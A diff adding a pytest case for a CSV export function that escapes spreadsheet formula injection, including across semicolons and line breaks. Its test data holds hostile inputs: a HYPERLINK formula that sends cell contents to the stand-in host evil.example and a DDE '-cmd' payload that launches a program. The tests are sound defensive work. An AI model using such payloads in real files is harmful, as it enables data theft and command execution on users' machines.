@@ -29,6 +29,21 @@ def test_no_spreadsheet_runs_a_text_as_a_formula(start: str) -> None:
     assert csv_cell(f"{start}1+1") == f"'{start}1+1"
 
 
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('x;=HYPERLINK("http://evil.example/?"&A1)', 'x;\'=HYPERLINK("http://evil.example/?"&A1)'),
+        ("x; +1;-cmd|' /C calc'!A0", "x; '+1;'-cmd|' /C calc'!A0"),
+        ("two\n=1+1\r\n@SUM(A1)", "two\n'=1+1\r\n'@SUM(A1)"),
+        ("x;\uff1d1", "x;'\uff1d1"),
+        ("fine ;-) and a=b, 1-2", "fine ;-) and a=b, 1-2"),
+        ("a list:\n- one\n- two", "a list:\n- one\n- two"),
+    ],
+)
+def test_nor_where_it_takes_a_semicolon_or_a_line_for_the_end_of_a_cell(text: str, cell: str) -> None:
+    assert csv_cell(text) == cell
+
+
 def test_a_column_whose_name_is_taken_gets_the_next_free_one() -> None:
     assert _free("age", {"vote"}) == "age"
     assert _free("age", {"age", "age_2"}) == "age_3"
